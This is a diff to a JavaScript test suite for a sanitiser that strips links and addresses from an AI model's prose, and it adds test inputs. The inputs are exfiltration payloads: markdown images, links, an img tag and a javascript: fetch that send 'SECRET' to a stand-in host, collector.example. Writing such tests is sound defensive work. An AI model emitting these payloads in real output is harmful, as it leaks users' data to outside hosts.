@@ -13,6 +13,9 @@ describe('a model’s prose', () => {
     '[x]: ftp://collector.example/SECRET "title"',
     '<img src="//collector.example/SECRET">',
     'javascript:fetch("SECRET")',
+    "see https://collector.example/?d=our%20(first)%20plant’s'SECRET",
+    '![x](https://collector.example/?d=a(b)c,SECRET) now',
+    '[x](https://collector.example/ "SECRET")',
   ])('keeps no address: %s [leads.plain-words]', (text) => {
     const left = plainWords(text)
     expect(left).not.toMatch(/SECRET|collector|10\.0|127\.0|<|\]\(/)
